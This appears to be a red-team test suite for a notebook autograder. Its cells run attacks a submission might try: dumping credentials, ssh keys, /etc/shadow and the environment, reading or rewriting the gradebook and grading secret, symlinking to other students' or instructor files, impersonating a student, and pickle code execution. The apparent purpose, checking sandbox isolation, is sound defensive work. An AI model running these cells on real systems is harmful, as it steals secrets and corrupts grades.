# Attacks, one per cell: theft, files.

# %% account_files deserves="0"
"""Prints tokens and settings that programs keep in the home folder: git, pip, cloud and Jupyter."""

CELL = """
from pathlib import Path
NAMES = (".netrc", ".gitconfig", ".git-credentials", ".pypirc", ".bash_history", ".python_history", ".aws/credentials",
         ".config/gh/hosts.yml", ".jupyter/jupyter_server_config.json", ".docker/config.json", ".kube/config")
for home in {Path.home(), Path("/root"), *Path("/home").glob("*"), *Path("/Users").glob("*")}:
    for name in NAMES:
        try:
            print(home / name, (home / name).read_text(errors="replace")[:2000])
        except OSError as error:
            print(error)
"""


def attack(work):
    work.add(CELL)


# %% environment deserves="1"
"""Prints its environment, as Python and as C know it."""

CELL = """
import ctypes, os
print(dict(os.environ))
environ = ctypes.POINTER(ctypes.c_char_p).in_dll(ctypes.CDLL(None), "environ")
for number in range(500):
    if not environ or environ[number] is None:
        break
    print(environ[number])
"""


def attack(work):
    work.answer_rightly("backward")
    work.add(CELL)


# %% folders_through_descriptors deserves="0"
"""Walks up from every open folder and root link in /proc to find the course."""

CELL = """
import glob, os
for link in glob.glob("/proc/[0-9]*/root") + glob.glob("/proc/[0-9]*/cwd") + glob.glob("/proc/self/fd/*"):
    for up in ("", "/..", "/../..", "/../../..", "/work", "/home"):
        try:
            names = os.listdir(link + up)
            print(link + up, names)
            for name in set(names) & {".grading-secret", "gradebook.db", ".env"}:
                print(open(f"{link}{up}/{name}", "rb").read()[:5000])
        except OSError:
            pass
"""


def attack(work):
    work.add(CELL)


# %% gradebook deserves="8"
"""Prints the gradebook's tables and its raw bytes."""

CELL = """
import sqlite3
for folder in ("..", "../..", "../../..", "../../../.."):
    try:
        print(open(f"{folder}/gradebook.db", "rb").read()[:200_000].decode("latin-1"))
        base = sqlite3.connect(f"file:{folder}/gradebook.db?mode=ro", uri=True)
        for (table,) in base.execute("select name from sqlite_master where type = 'table'").fetchall():
            print(table, base.execute(f"select * from {table} limit 100").fetchall())
    except Exception as error:
        print(folder, error)
"""


def attack(work):
    work.answer_rightly("forward", "backward", "gradient_check")
    work.add(CELL)


# %% gradebook_rewritten deserves="1"
"""Opens the gradebook for writing and notes itself in a table of its own."""

CELL = """
import sqlite3
for folder in ("../..", "../../.."):
    try:
        base = sqlite3.connect(f"file:{folder}/gradebook.db?mode=rw", uri=True)
        base.execute("create table if not exists escaped_gradebook_rewritten (word text)")
        base.execute("insert into escaped_gradebook_rewritten values ('ESCAPED')")
        base.commit()
        print("CANA" "RY: the gradebook can be written")
    except Exception as error:
        print(folder, error)
"""


def attack(work):
    work.answer_rightly("forward")
    work.add(CELL)


# %% grading_secret_by_walk deserves="0"
"""Searches the whole disk for .grading-secret, gradebooks and sources, for ten seconds."""

CELL = """
import os, time
end = time.monotonic() + 10
for folder, folders, files in os.walk("/"):
    folders[:] = [name for name in folders if name not in ("proc", "sys", "usr", "site-packages")]
    for name in files:
        if name in (".grading-secret", "gradebook.db") or (name == "scalar.ipynb" and "source" in folder):
            try:
                print(folder, name, open(os.path.join(folder, name), "rb").read()[:5000])
            except OSError as error:
                print(error)
    if time.monotonic() > end:
        break
"""


def attack(work):
    work.add(CELL)


# %% grading_secret_upwards deserves="8"
"""Reads .grading-secret from its own folder and from all folders above it."""

CELL = """
import os
for depth in range(12):
    for name in (".grading-secret", ".grading-secret.part", ".env", "nbgrader_config.py"):
        path = "../" * depth + name
        if os.path.exists(path):
            print(os.path.abspath(path), open(path, errors="replace").read())
"""


def attack(work):
    work.answer_rightly("forward", "backward", "gradient_check")
    work.add(CELL)


# %% hard_links_beside deserves="0"
"""Hands in hard links to the gradebook, the secret and the source, where the file system allows it."""

import contextlib
import os


def attack(work):
    for name in ("gradebook.db", ".grading-secret", "source/scalar/scalar.ipynb"):
        with contextlib.suppress(OSError):
            os.link(work.folder.parents[2] / name, work.folder / f"{name.replace('/', '-')}.ipynb")
    work.raw = b"SQLite format 3\0 in place of a notebook"


# %% input_history deserves="0"
"""Prints the text of whatever cell calls the function, from In and the history manager."""

FORWARD = """
SEEN = []

def forward_propagation(x, theta):
    shell = get_ipython()
    SEEN.extend(shell.user_ns["In"][-2:] + shell.user_ns["_ih"][-1:] + [shell.history_manager.input_hist_raw[-1]])
    print(SEEN[-1])
    return 1.0
"""

CELL = r"""
print("\n".join(SEEN))
"""


def attack(work):
    work.answer("forward", FORWARD)
    work.add(CELL)


# %% jupyter_connections deserves="0"
"""Prints the connection files and keys of all running kernels and servers."""

CELL = """
import glob, os
for folder in (os.path.expanduser("~/.local/share/jupyter/runtime"), "/root/.local/share/jupyter/runtime", "/run/user/*", "/tmp"):
    for path in glob.glob(f"{folder}/*.json") + glob.glob(f"{folder}/jupyter_cookie_secret"):
        try:
            print(path, open(path).read()[:2000])
        except OSError as error:
            print(error)
try:
    from ipykernel import get_connection_info
    print(get_connection_info())
except Exception as error:
    print(error)
"""


def attack(work):
    work.add(CELL)


# %% host_files_locked_and_watched deserves="8"
"""Locks a file that all runners share, asks who else holds it, and asks for news of the system's folders."""

CELL = r"""
import ctypes, fcntl, os, struct, sys
host, folder = open(sys.executable, "rb"), os.open("/usr", os.O_RDONLY)
question = struct.pack("hhqqi", fcntl.F_WRLCK, 0, 0, 0, 0)
ways = {
    "lock": lambda: fcntl.flock(host, fcntl.LOCK_SH | fcntl.LOCK_NB),
    "holder": lambda: fcntl.fcntl(host, fcntl.F_GETLK, question),
    "news": lambda: fcntl.fcntl(folder, fcntl.F_NOTIFY, fcntl.DN_ACCESS),
    "watch": lambda: [0][ctypes.CDLL(None).inotify_init1(0) < 0],
}
for name, way in ways.items():
    try:
        way()
        print("CANARY" + "-" + name)
    except (OSError, IndexError):
        pass
"""


def attack(work):
    work.answer_rightly("forward", "backward", "gradient_check")
    work.add(CELL)


# %% links_beside deserves="0"
"""Hands in links beside the notebook, to the gradebook, the secret and the source, and prints them."""

CELL = """
import os
for name in ("a.db", "b.txt", "c.py", "d"):
    try:
        print(name, os.listdir(name) if os.path.isdir(name) else open(name, "rb").read()[:5000])
    except OSError as error:
        print(name, error)
"""


def attack(work):
    work.add(CELL)
    targets = {
        "a.db": "gradebook.db",
        "b.txt": ".grading-secret",
        "c.py": "nbgrader_config.py",
        "d": "source/scalar/figures",
    }
    for name, target in targets.items():
        (work.folder / name).symlink_to(f"../../../{target}")


# %% named_like_another_student deserves="0"
"""Hands in folders and metadata with the names of other students and of other assignments."""

import json


def attack(work):
    work.notebook["metadata"] |= {"student_id": "victim", "nbgrader": {"student": "victim", "assignment": "layers"}}
    for name in ("victim/scalar/scalar.ipynb", "submitted/victim/scalar/scalar.ipynb", "layers.ipynb", "gradebook.db"):
        work.file(name, json.dumps(work.notebook))
    work.file("timestamp.txt", "student: victim")


# %% notebook_is_a_link_to_a_student deserves="0"
"""Hands in a symbolic link to another student's notebook, whoever that is."""


def attack(work):
    others = sorted(path for path in work.folder.parents[1].glob("*/scalar/scalar.ipynb") if path != work.path)
    target = f"../../{others[0].parts[-3]}/scalar/scalar.ipynb" if others else "../../victim/scalar/scalar.ipynb"
    work.path.unlink()
    work.path.symlink_to(target)


# %% notebook_is_a_link_to_source deserves="0"
"""Hands in a symbolic link to the instructor's notebook in place of its own."""


def attack(work):
    work.path.unlink()
    work.path.symlink_to("../../../source/scalar/scalar.ipynb")


# %% open_descriptors deserves="0"
"""Lists its open descriptors and reads every file among them from the start."""

CELL = """
import os
for name in os.listdir("/proc/self/fd"):
    try:
        print(name, os.readlink(f"/proc/self/fd/{name}"), os.fstat(int(name)).st_mode)
        print(os.pread(int(name), 5000, 0))
    except (OSError, ValueError) as error:
        print(name, error)
"""


def attack(work):
    work.add(CELL)


# %% pickles deserves="0"
"""Hands in pickles, and returns objects that run a command when they are unpickled."""

import pickle

CELL = """
import os, pickle
class Run:
    def __reduce__(self): return (os.system, ("echo ESCAPED > /tmp/escaped-pickles",))
for name in ("cache.pkl", "result.joblib", ".coverage"):
    with open(name, "wb") as file:
        file.write(pickle.dumps(Run()))
"""

FORWARD = """
def forward_propagation(x, theta): return Run()
"""

BACKWARD = """
def backward_propagation(x, theta): return np.array([Run()], dtype=object)
"""


def attack(work):
    work.add(CELL, before="forward")
    work.answer("forward", FORWARD)
    work.answer("backward", BACKWARD)
    work.file("cache.pkl", pickle.dumps({"points": 8}))
    work.file("data.npy", b"\x93NUMPY\x01\x00v\x00{'descr': '|O', 'fortran_order': False, 'shape': (1,)}" + b" " * 60)


# %% shell_commands deserves="1"
"""Uses shell magics to print the environment and files."""

CELL = """
!env
!cat ../../../.grading-secret ../../../gradebook.db /etc/passwd | head -c 5000
files = !find / -maxdepth 4 -name "*secret*" -not -path "/proc/*" 2>/dev/null
print(files)
%env
"""

CELL2 = r"""
%%bash
cat /proc/$PPID/environ | tr '\0' '\n'
ls -la ../.. ../../.. ../../../source /work 2>&1
"""


def attack(work):
    work.answer_rightly("backward")
    work.add(CELL)
    work.add(CELL2)


# %% source_folder deserves="0"
"""Prints the instructor's notebooks, solutions and hidden tests, from the source folder."""

CELL = """
import glob, json
for path in glob.glob("../../../source/**/*.ipynb", recursive=True) + glob.glob("../../../assignments/**/*.py"):
    with open(path) as file:
        for line in file:
            if "HIDDEN" in line or "assert" in line or "CANA" "RY" in line:
                print(path, line)
"""


def attack(work):
    work.add(CELL)


# %% system_files deserves="8"
"""Prints /etc/passwd, /etc/shadow, what is in /root and all ssh keys."""

CELL = """
import glob, os
paths = ["/etc/passwd", "/etc/shadow", "/etc/hostname", "/etc/machine-id", *glob.glob("/root/.*"), *glob.glob("/home/*/.*")]
for path in [*paths, *glob.glob(os.path.expanduser("~/.ssh/*")), *glob.glob("/root/.ssh/*")]:
    try:
        print(path, open(path, errors="replace").read()[:2000] if os.path.isfile(path) else os.listdir(path))
    except OSError as error:
        print(error)
"""


def attack(work):
    work.answer_rightly("forward", "backward", "gradient_check")
    work.add(CELL)
